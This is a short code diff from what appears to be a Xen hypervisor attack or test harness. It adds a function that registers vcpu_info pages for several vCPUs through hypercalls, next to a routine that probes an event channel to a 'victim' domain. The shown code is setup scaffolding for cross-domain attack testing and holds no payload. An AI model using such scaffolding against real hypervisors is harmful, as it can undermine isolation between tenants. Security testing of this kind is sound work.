@@ -6,6 +6,7 @@
 #include "vcpu.h"
 
 #include <paravane/hypercall.h>
+#include <xen/vcpu.h>
 #include <xen/event_channel.h>
 #include <xen/memory.h>
 #include <xen/sched.h>
@@ -41,6 +42,19 @@ bool attack_goes_on(void)
     struct evtchn_bind_interdomain b = {.remote_dom = DOMAIN_VICTIM, .remote_port = NO_SUCH_PORT};
 
     return hypercall_event_channel_op(EVTCHNOP_bind_interdomain, &b) != -XEN_ESRCH;
+}
+
+void attack_vcpu_infos(unsigned count)
+{
+    static struct vcpu_info infos[64] __attribute__((aligned(4096)));
+
+    for (unsigned i = ATTACK_LEGACY; i < count; i++) {
+        const unsigned long at = (unsigned long)&infos[i];
+        struct vcpu_register_vcpu_info r = {.mfn = page_mfn((void *)(at & ~4095ul)),
+                                            .offset = at & 4095};
+        if (hypercall_vcpu_op(VCPUOP_register_vcpu_info, i, &r))
+            tap_bail_out("vCPU %u has no vcpu_info", i);
+    }
 }
 
 static void (*start)(unsigned vcpu);
